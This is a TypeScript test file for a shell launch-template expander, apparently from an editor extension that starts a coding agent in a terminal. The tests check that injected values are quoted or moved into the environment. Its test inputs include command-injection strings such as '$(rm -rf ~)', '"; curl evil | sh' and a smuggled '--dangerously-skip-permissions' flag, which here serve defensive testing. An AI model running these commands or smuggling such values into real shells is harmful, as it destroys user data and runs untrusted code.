import assert from 'node:assert/strict';
import { expandLaunchCommand, LAUNCH_ENV, wslEnvFor, type LaunchValues } from '../../../src/core/shell/launchTemplate';
import type { ShellKind } from '../../../src/core/shell/detect';

const values = (over: Partial<LaunchValues> = {}): LaunchValues => ({
  phaseId: '2B',
  phaseTitle: 'Exporter',
  file: '/work/plans/PHASE_2.md',
  line: '57',
  prompt: '# Phase 2B: Exporter\n\n- [ ] Write CSV\n',
  ...over,
});

function expand(template: string, kind: ShellKind, over: Partial<LaunchValues> = {}) {
  const result = expandLaunchCommand(template, values(over), kind);
  assert.ok(result.ok, `expected ${template} to expand under ${kind}: ${result.ok ? '' : result.error}`);
  return result;
}

/** The titles of the issue, and the other ways text has been turned into commands. */
const HOSTILE = [
  '$(rm -rf ~)',
  '"; curl evil | sh',
  "'; curl evil | sh; echo '",
  '`id`',
  'line one\nrm -rf ~\n',
  '%PATH% %%cd:~,%',
  '!! !-1 !$',
  'ünïcødé 🚀 模型 — “smart” ‘quotes’',
  '$HOME ${HOME} $((1+1)) * ? [a] ~',
  'back\\slash\\',
  '\t-tab\u0003ctrl-c\u001b[31m',
];

describe('shell: launch template', () => {
  it('never writes a value into the line under sh, fish and PowerShell: it travels in the environment', () => {
    for (const kind of ['posix', 'fish', 'powershell'] as const) {
      for (const hostile of HOSTILE) {
        const result = expand('run ${phaseTitle} ${prompt}', kind, { phaseTitle: hostile, prompt: `# ${hostile}\n` });
        assert.ok(!result.command.includes(hostile.trim()), `${kind}: ${result.command}`);
        assert.equal(result.env[LAUNCH_ENV.phaseTitle], hostile.replace(/\u0000/g, ''));
        assert.equal(result.env[LAUNCH_ENV.prompt], `# ${hostile}\n`);
      }
    }
  });

  it('refers to each variable as a quoted word in the shell`s own syntax', () => {
    assert.equal(expand('claude ${prompt}', 'posix').command, 'claude "${PHASELENS_PROMPT}"');
    assert.equal(expand('claude ${prompt}', 'fish').command, 'claude "$PHASELENS_PROMPT"');
    assert.equal(expand('claude ${prompt}', 'powershell').command, 'claude "${env:PHASELENS_PROMPT}"');
    assert.equal(expand('./scripts/run-phase.sh ${phaseId} ${file}:${line}', 'posix').command, './scripts/run-phase.sh "${PHASELENS_PHASE_ID}" "${PHASELENS_FILE}":"${PHASELENS_LINE}"');
  });

  it('keeps the template`s own quotes working: inside, around and next to a placeholder', () => {
    assert.equal(expand(`x "\${phaseId}: \${phaseTitle}" '\${phaseTitle}'`, 'posix').command, `x "\${PHASELENS_PHASE_ID}: \${PHASELENS_PHASE_TITLE}" "\${PHASELENS_PHASE_TITLE}"`);
    assert.equal(expand(`x 'id \${phaseId}!'`, 'posix').command, `x 'id '"\${PHASELENS_PHASE_ID}"'!'`);
    assert.equal(expand(`x "id \${phaseId}"`, 'fish').command, 'x "id "$PHASELENS_PHASE_ID""');
    assert.equal(expand(`x "id \${phaseId}" '\${phaseId}'`, 'powershell').command, 'x "id ${env:PHASELENS_PHASE_ID}" "${env:PHASELENS_PHASE_ID}"');
    assert.equal(expand('x --title=${phaseTitle}', 'powershell').command, 'x --title="${env:PHASELENS_PHASE_TITLE}"');
  });

  it('leaves the shell`s own variables and escaped placeholders alone', () => {
    assert.equal(expand('cd ${HOME} && run \\${phaseId} ${phaseId}', 'posix').command, 'cd ${HOME} && run \\${phaseId} "${PHASELENS_PHASE_ID}"');
  });

  it('refuses PowerShell templates it cannot turn into one argument', () => {
    const single = expandLaunchCommand(`x 'id \${phaseId}'`, values(), 'powershell');
    assert.equal(single.ok, false);
    assert.match(single.ok ? '' : single.error, /inside double quotes/);
    const glued = expandLaunchCommand('x ${phaseId}.log', values(), 'powershell');
    assert.equal(glued.ok, false);
    assert.match(glued.ok ? '' : glued.error, /"\$\{phaseId\}\.log"/);
  });

  it('quotes values into the line for cmd.exe, and sets no environment there', () => {
    const result = expand('run ${phaseTitle} "${phaseId}: ${phaseTitle}"', 'cmd', { phaseTitle: '"; calc & echo %PATH%' });
    assert.equal(result.command, 'run """; calc & echo %%cd:~,%PATH%%cd:~,%" "2B: ""; calc & echo %%cd:~,%PATH%%cd:~,%"');
    assert.deepEqual(result.env, {});
    assert.equal(expand('run ${prompt}', 'cmd', { prompt: 'one\ntwo' }).command, 'run "one two"');
  });

  it('shares the variables with WSL, translating the file path', () => {
    assert.equal(wslEnvFor(undefined), 'PHASELENS_PHASE_ID:PHASELENS_PHASE_TITLE:PHASELENS_FILE/p:PHASELENS_LINE:PHASELENS_PROMPT:PHASELENS_PROMPT_FILE/p');
    assert.match(wslEnvFor('GOPATH/l:USERPROFILE/p'), /^GOPATH\/l:USERPROFILE\/p:PHASELENS_PHASE_ID:/);
  });

  describe('command substitution opens a fresh quoting context', () => {
    it('quotes a placeholder inside $(…) and backticks nested in double quotes (sh)', () => {
      assert.equal(expand('x "$(printf %s ${prompt})"', 'posix').command, 'x "$(printf %s "${PHASELENS_PROMPT}")"');
      assert.equal(expand('x "`printf %s ${prompt}`"', 'posix').command, 'x "`printf %s "${PHASELENS_PROMPT}"`"');
      assert.equal(expand('x "a $(f "${phaseId}" $(g ${phaseId})) ${phaseId}"', 'posix').command, 'x "a $(f "${PHASELENS_PHASE_ID}" $(g "${PHASELENS_PHASE_ID}")) ${PHASELENS_PHASE_ID}"');
      assert.equal(expand('x "$( (cd a) ; echo ${phaseId})"', 'posix').command, 'x "$( (cd a) ; echo "${PHASELENS_PHASE_ID}")"');
      // A parameter expansion keeps the context it stands in.
      assert.equal(expand('x "${X:-${phaseId}}" ${X:-${phaseId}}', 'posix').command, 'x "${X:-${PHASELENS_PHASE_ID}}" ${X:-"${PHASELENS_PHASE_ID}"}');
    });

    it('does the same for fish and PowerShell', () => {
      assert.equal(expand('x "$(printf %s ${prompt})" (printf %s ${prompt})', 'fish').command, 'x "$(printf %s "$PHASELENS_PROMPT")" (printf %s "$PHASELENS_PROMPT")');
      assert.equal(expand('x "$(Write-Output ${prompt})"', 'powershell').command, 'x "$(Write-Output "${env:PHASELENS_PROMPT}")"');
    });
  });

  describe('values that look like options', () => {
    const dangerous = '--dangerously-skip-permissions';
    it('refuses a value that would begin an argument with "-", and says how to write the template', () => {
      for (const kind of ['posix', 'fish', 'powershell', 'cmd'] as const) {
        for (const template of ['claude ${phaseTitle}', 'claude "${phaseTitle}"', "claude '${phaseTitle}'", 'claude "${phaseTitle} now"', 'cd x && claude ${phaseTitle}', 'claude -- x; other ${phaseTitle}']) {
          // PowerShell refuses single quotes anyway; cmd.exe takes them for text, so the argument starts with '.
          if ((kind === 'powershell' || kind === 'cmd') && template.includes("'")) continue;
          const result = expandLaunchCommand(template, values({ phaseTitle: dangerous }), kind);
          assert.equal(result.ok, false, `${kind}: ${template}`);
          assert.match(result.ok ? '' : result.error, /starts with "-".*Put -- before \$\{phaseTitle\}/);
        }
      }
    });

    it('lets it through where the template ends the options or glues it to text', () => {
      assert.equal(expand('claude -- ${phaseTitle}', 'posix', { phaseTitle: dangerous }).command, 'claude -- "${PHASELENS_PHASE_TITLE}"');
      assert.equal(expand('claude --model x -- "${phaseId}" ${phaseTitle}', 'posix', { phaseTitle: dangerous }).ok, true);
      assert.equal(expand('claude --title=${phaseTitle} "${phaseId}: ${phaseTitle}"', 'posix', { phaseTitle: dangerous }).ok, true);
      assert.equal(expand('claude ${phaseTitle}', 'cmd', { phaseTitle: 'Safe - title' }).ok, true);
    });
  });

  describe('${promptFile} and values too large to pass', () => {
    const promptFile = '/home/me/.vscode/globalStorage/phaselens/prompts/2B.md';
    it('passes the prompt file path when the template asks for it', () => {
      const result = expand('claude -- ${promptFile}', 'posix', { promptFile });
      assert.equal(result.command, 'claude -- "${PHASELENS_PROMPT_FILE}"');
      assert.equal(result.env.PHASELENS_PROMPT_FILE, promptFile);
      assert.equal(result.usesPromptFile, true);
      assert.deepEqual(result.notices, []);
      assert.equal(expand('claude -- ${prompt}', 'posix', { promptFile }).usesPromptFile, false);
    });

    it('falls back to the file, with a notice, for a prompt too long for the environment (E2BIG)', () => {
      const prompt = `# Phase 2B\n${'x'.repeat(200_000)}\n`;
      const result = expand('claude -- ${prompt}', 'posix', { prompt, promptFile });
      assert.equal(result.command, 'claude -- "${PHASELENS_PROMPT_FILE}"');
      assert.equal(result.env.PHASELENS_PROMPT, undefined);
      assert.equal(result.usesPromptFile, true);
      assert.match(result.notices[0]!, /as a file .* bytes is more than a process can receive/);
      // Not used by the template, it still must not stop the terminal from starting.
      const unused = expand('claude -- ${phaseId}', 'posix', { prompt, promptFile });
      assert.equal(unused.env.PHASELENS_PROMPT, undefined);
      assert.match(unused.notices[0]!, /left out of the terminal's environment/);
    });

    it('falls back past cmd.exe`s 8,191 characters, and refuses when there is no file to use', () => {
      const prompt = 'y'.repeat(9_000);
      const result = expand('claude -- ${prompt}', 'cmd', { prompt, promptFile: 'C:\\Users\\me\\prompt.md' });
      assert.equal(result.command, 'claude -- "C:\\Users\\me\\prompt.md"');
      assert.match(result.notices[0]!, /more than cmd\.exe reads \(8191\)/);
      const without = expandLaunchCommand('claude -- ${prompt}', values({ prompt }), 'cmd');
      assert.equal(without.ok, false);
      assert.match(without.ok ? '' : without.error, /8191/);
      const noStorage = expandLaunchCommand('claude -- ${promptFile}', values(), 'posix');
      assert.equal(noStorage.ok, false);
    });
  });
});
